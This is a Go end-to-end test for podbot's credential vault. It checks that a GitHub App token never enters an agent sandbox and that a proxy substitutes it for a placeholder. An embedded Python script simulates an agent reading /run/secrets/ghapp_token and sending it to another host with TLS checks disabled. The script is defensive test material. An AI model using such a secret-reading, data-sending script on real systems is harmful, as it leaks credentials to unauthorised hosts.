//go:build e2e

package e2e

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/podbot/podbot"
	"github.com/podbot/podbot/config"
	"github.com/podbot/podbot/egress"
	"github.com/podbot/podbot/egressnet"
	"github.com/podbot/podbot/github"
	"github.com/podbot/podbot/launchplan"
	"github.com/podbot/podbot/tokendaemon"
)

// ghPlaceholderScript plays an agent that sends the placeholder in
// /run/secrets/ghapp_token as git's Basic auth password to each URL
// itself, without verifying TLS. It prints "URL STATUS" or "URL refused
// CODE" per URL.
const ghPlaceholderScript = `
import base64, ssl, sys, urllib.request, urllib.error
ph = open("/run/secrets/ghapp_token").read().strip()
auth = "Basic " + base64.b64encode(("x-access-token:" + ph).encode()).decode()
for u in sys.argv[1:]:
    req = urllib.request.Request(u, headers={"Authorization": auth})
    try:
        r = urllib.request.urlopen(req, timeout=15, context=ssl._create_unverified_context())
        print(u, r.status)
    except urllib.error.HTTPError as e:
        print(u, "refused", e.code)
    except Exception as e:
        print(u, "refused", type(e).__name__, e)
`

// recordingSource remembers every token it mints.
type recordingSource struct {
	src tokendaemon.TokenSource
	mu  sync.Mutex
	all []string
}

func (r *recordingSource) InstallationToken(ctx context.Context, repos []string) (github.Token, error) {
	tok, err := r.src.InstallationToken(ctx, repos)
	if tok.Value != "" {
		r.mu.Lock()
		r.all = append(r.all, tok.Value)
		r.mu.Unlock()
	}
	return tok, err
}

func (r *recordingSource) tokens() []string {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]string(nil), r.all...)
}

// TestVaultGitHubTokenCloneAndPush puts the GitHub installation token in
// the credential vault (source = "github-app"): the git server (HTTPS, a
// test CA given to the proxy, its name pinned with network.resolve)
// accepts only Basic auth with the App's current token. The launch's clone
// and a push from inside the sandbox work through the proxy, which swaps
// the placeholder that git's askpass answers with for the real token; the
// token daemon's refresh reaches the vault and a later fetch works with the
// fresh token under the same placeholder. No real token is anywhere in the
// sandbox: /run/secrets/ghapp_token holds the placeholder, and inspect,
// every process's environ and cmdline, the filesystem and its export do
// not hold any token GitHub issued. Before github-app secrets were
// applied, Launch refused this configuration.
func TestVaultGitHubTokenCloneAndPush(t *testing.T) {
	t.Parallel() // long, and touches only what it names (see forEachEngine)
	forEachEngine(t, func(t *testing.T, e engineUnderTest) {
		ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
		defer cancel()
		gh, app, keyPath := fakeGitHubAppTTL(t, tokenTTL)
		src := &recordingSource{src: app}
		conn := connectEngine(t, ctx, e)
		gw := bridgeGateway(t, ctx, e)

		upCA, err := egress.NewCA("podbot e2e git upstream")
		if err != nil {
			t.Fatal(err)
		}
		caFile := filepath.Join(t.TempDir(), "upstream-ca.pem")
		if err := os.WriteFile(caFile, upCA.CertPEM(), 0o644); err != nil {
			t.Fatal(err)
		}
		root := t.TempDir()
		repo := newHostRepo(t, root, "octo-org/demo", "feature")
		git(t, "", "-C", repo.bare, "config", "http.receivepack", "true")
		gs, port := startGitServerTLS(t, root, "git.test", upCA, gh.Valid)
		firstSHA := strings.TrimSpace(git(t, repo.work, "rev-parse", "HEAD"))

		rt := runtimeDir(t)
		name := testName(e, "ghvault")
		removeOnCleanup(t, e, name)
		cfg := launchConfig()
		cfg.Workspace.Source = config.SourceGitHubClone
		cfg.GitHub.CloneBaseURL = gs.BaseURL
		cfg.GitHub.TokenRefreshBuffer = refreshBuffer
		cfg.GitHub.AppID, cfg.GitHub.InstallationID, cfg.GitHub.PrivateKeyPath, cfg.GitHub.APIURL = gh.AppID(), gh.InstallationID(), keyPath, gh.URL
		cfg.Network.Mode = "allowlist"
		gitHost := fmt.Sprintf("git.test:%d", port)
		cfg.Secrets = []config.Secret{{Name: "github", Source: config.SecretSourceGitHubApp, Hosts: []string{gitHost}, BasicAuthUser: "x-access-token"}}
		opts := podbot.LaunchOptions{
			Config: cfg, Intent: launchplan.IntentInteractive, Name: name,
			Repo: "octo-org/demo", Branch: "feature", RuntimeDir: rt, TokenSource: src,
			SidecarPath: sidecarBin(t),
			Egress: &launchplan.Egress{Mode: egress.ModeAllowlist, UpstreamCA: caFile, Policy: egress.Policy{
				Rules: []egress.Rule{{Host: "git.test", Ports: []int{port}, Source: "test"},
					{Host: "other.test", Ports: []int{port}, Source: "test"}},
				Resolve: map[string]string{"git.test": gw, "other.test": gw},
			}},
		}
		sb := launch(t, ctx, conn, opts)

		// The launch's clone went through the proxy with the real token.
		first, _, ok := gh.CurrentToken()
		if !ok {
			t.Fatal("the fake GitHub issued no token")
		}
		if got := strings.TrimSpace(mustExecIn(t, ctx, conn, sb, "git", "-C", "/work/demo", "rev-parse", "HEAD")); got != firstSHA {
			t.Fatalf("clone HEAD = %s, want %s", got, firstSHA)
		}
		if gs.servedWith(first) == 0 {
			t.Fatal("the git server never served a request with the installation token")
		}

		// The sandbox's token file holds the placeholder, and so does the
		// host's token directory mounted there.
		placeholder := strings.TrimSpace(mustExecIn(t, ctx, conn, sb, "cat", "/run/secrets/ghapp_token"))
		if !strings.HasPrefix(placeholder, egress.PlaceholderPrefix+"github-") {
			t.Fatalf("/run/secrets/ghapp_token holds %q, want the vault's placeholder", placeholder)
		}
		if host := readToken(t, filepath.Join(rt, "podbot", name, "ghapp_token")); host != placeholder {
			t.Fatal("the host token file does not hold the placeholder")
		}
		if gs.servedWith(placeholder) != 0 {
			t.Fatal("the git server accepted the placeholder")
		}

		// The agent sends the placeholder elsewhere itself: to another
		// allowed name of the same server over HTTPS (not intercepted: it
		// arrives as the useless placeholder) and over plain HTTP (the
		// proxy refuses it). No real token goes to that name.
		otherHost := fmt.Sprintf("other.test:%d", port)
		out := mustExecIn(t, ctx, conn, sb, "python3", "-c", ghPlaceholderScript,
			"https://"+otherHost+"/octo-org/demo.git/info/refs?service=git-upload-pack",
			"http://"+otherHost+"/octo-org/demo.git/info/refs?service=git-upload-pack")
		t.Logf("placeholder sent by the agent:\n%s", out)
		lines := strings.Split(strings.TrimSpace(out), "\n")
		if len(lines) != 2 || !strings.Contains(lines[0], " refused 401") || !strings.Contains(lines[1], " refused 403") {
			t.Fatalf("the placeholder elsewhere: want 401 from the server for HTTPS, 403 from the proxy for plain HTTP; got:\n%s", out)
		}
		if pw := gs.passwords(otherHost); len(pw) != 1 || pw[0] != placeholder {
			t.Fatalf("other.test received %d requests, want one with the placeholder", len(pw))
		}

		// A push from inside the sandbox, through the proxy.
		mustExecIn(t, ctx, conn, sb, "sh", "-c", "cd /work/demo && echo pushed > pushed.txt && git add pushed.txt && "+
			"git -c user.name=agent -c user.email=agent@podbot.invalid commit --quiet -m push && git push --quiet origin HEAD:feature")
		pushed := strings.TrimSpace(mustExecIn(t, ctx, conn, sb, "git", "-C", "/work/demo", "rev-parse", "HEAD"))
		if got := strings.TrimSpace(git(t, "", "-C", repo.bare, "rev-parse", "feature")); got != pushed {
			t.Fatalf("the bare repository's feature = %s, want the pushed %s", got, pushed)
		}

		// The refresh reaches the vault: a fetch works with the new token,
		// the placeholder stays the same.
		second := first
		deadline := time.Now().Add(tokenTTL + 15*time.Second)
		for second == first {
			if time.Now().After(deadline) {
				t.Fatal("the token daemon did not refresh the token")
			}
			time.Sleep(300 * time.Millisecond)
			second, _, _ = gh.CurrentToken()
		}
		if gh.Valid(first) {
			t.Fatal("the old token is still valid")
		}
		// The vault is rewritten right after the mint; give it a moment.
		var r execResult
		for i := 0; i < 20; i++ {
			r = execIn(t, ctx, conn, sb, "git", "-C", "/work/demo", "fetch", "--quiet", "origin")
			if r.code == 0 && gs.servedWith(second) > 0 {
				break
			}
			time.Sleep(500 * time.Millisecond)
		}
		if r.code != 0 || gs.servedWith(second) == 0 {
			t.Fatalf("fetch after the refresh: exit %d, served with the new token %d times\n%s", r.code, gs.servedWith(second), r.stderr)
		}
		if now := strings.TrimSpace(mustExecIn(t, ctx, conn, sb, "cat", "/run/secrets/ghapp_token")); now != placeholder {
			t.Fatal("the placeholder changed on refresh")
		}

		// podbot token-daemon takes over a detached sandbox the same way:
		// its refresh rewrites the proxy's secrets file, not the token file.
		if err := sb.Close(ctx, false); err != nil {
			t.Fatal(err)
		}
		tomlCfg := fmt.Sprintf("[github]\napp_id = %d\ninstallation_id = %d\nprivate_key_path = %q\napi_url = %q\ntoken_refresh_buffer = %q\n",
			gh.AppID(), gh.InstallationID(), keyPath, gh.URL, refreshBuffer.String())
		cmd := podbotCmd(t, ctx, e, tomlCfg, "token-daemon", "--container", name, "--check-interval", "1s", "--log-level", "debug")
		cmd.Env = append(cmd.Env, "XDG_RUNTIME_DIR="+rt)
		var stderr bytes.Buffer
		cmd.Stdout, cmd.Stderr = &stderr, &stderr
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		defer func() { _ = cmd.Process.Kill(); _ = cmd.Wait() }()
		third := second
		deadline = time.Now().Add(tokenTTL + 15*time.Second)
		for third == second {
			if time.Now().After(deadline) {
				t.Fatalf("podbot token-daemon did not refresh the token\n%s", stderr.String())
			}
			time.Sleep(300 * time.Millisecond)
			third, _, _ = gh.CurrentToken()
		}
		for i := 0; i < 20; i++ {
			r = execIn(t, ctx, conn, sb, "git", "-C", "/work/demo", "fetch", "--quiet", "origin")
			if r.code == 0 && gs.servedWith(third) > 0 {
				break
			}
			time.Sleep(500 * time.Millisecond)
		}
		if r.code != 0 || gs.servedWith(third) == 0 {
			t.Fatalf("fetch after podbot token-daemon's refresh: exit %d, served with its token %d times\n%s\n%s", r.code, gs.servedWith(third), r.stderr, stderr.String())
		}
		if now := strings.TrimSpace(mustExecIn(t, ctx, conn, sb, "cat", "/run/secrets/ghapp_token")); now != placeholder {
			t.Fatal("podbot token-daemon changed the placeholder")
		}

		// No token GitHub issued is in the sandbox.
		tokens := append(src.tokens(), third)
		for _, tok := range tokens {
			if strings.Contains(stderr.String(), tok) {
				t.Fatal("podbot token-daemon logged a token value")
			}
		}
		if len(tokens) < 3 {
			t.Fatalf("the fake GitHub issued %d tokens, want at least 2", len(tokens))
		}
		dirs, err := egressnet.DirsFor(rt, name)
		if err != nil {
			t.Fatal(err)
		}
		for _, id := range []string{sb.ID, egressnet.ProxyName(name)} {
			in, err := conn.Inspect(ctx, id, false)
			if err != nil {
				t.Fatal(err)
			}
			body, _ := json.Marshal(in)
			for _, tok := range tokens {
				if bytes.Contains(body, []byte(tok)) {
					t.Fatalf("inspect of %s holds an installation token", id)
				}
			}
			if id == sb.ID {
				for _, m := range in.Mounts {
					// The trust directory (certificates only) alone, read-only.
					if strings.HasPrefix(m.Source, dirs.Root) && (m.Source != dirs.Trust || m.Destination != podbot.VaultTrustDir || m.RW) {
						t.Fatalf("the sandbox mounts %s from the egress directory at %s (rw %v)", m.Source, m.Destination, m.RW)
					}
				}
			}
		}
		for _, pw := range gs.passwords(otherHost) {
			for _, tok := range tokens {
				if pw == tok {
					t.Fatal("other.test received a real installation token")
				}
			}
		}
		for _, tok := range tokens {
			requireNotInSandbox(t, ctx, conn, sb.ID, tok, "an installation token")
		}
	})
}
